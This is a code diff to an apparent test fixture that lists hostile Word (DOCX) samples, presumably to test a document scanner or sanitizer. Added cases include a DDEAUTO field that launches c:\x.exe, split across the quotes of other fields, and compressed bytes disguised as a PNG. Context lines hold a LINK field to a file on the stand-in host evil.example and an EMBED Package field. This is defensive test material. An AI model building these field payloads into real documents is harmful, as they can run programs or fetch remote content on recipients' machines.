@@ -92,6 +92,15 @@ export function hiddenInDocx(): HostileFile[] {
     'a field with an instruction inside': fieldParts('D<?x y?>DEAUTO c:\\\\x.exe'),
     'a field that spells itself': fieldParts('QUOTE 68 68 69 65 85 84 79'),
     'a field that links a sheet': fieldParts('LINK Excel.Sheet.8 "\\\\\\\\evil.example\\\\x.xls"'),
+    'a field between the quotes of two others': {
+      body: ['\\o "', 'DDEAUTO c:\\x.exe', '"']
+        .map(
+          (code) =>
+            `<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>${code}</w:instrText><w:t>CV</w:t></w:r></w:p>`,
+        )
+        .join(''),
+    },
+    'a packed program as a picture': media('a.png', bytes('\x1f\x8b\x08')),
     'a field with an object': fieldParts('EMBED Package'),
     'a simple field in single quotes': {
       body: `<w:p><w:fldSimple w:instr='DDEAUTO c:\\x.exe'/><w:r><w:t>CV</w:t></w:r></w:p>`,
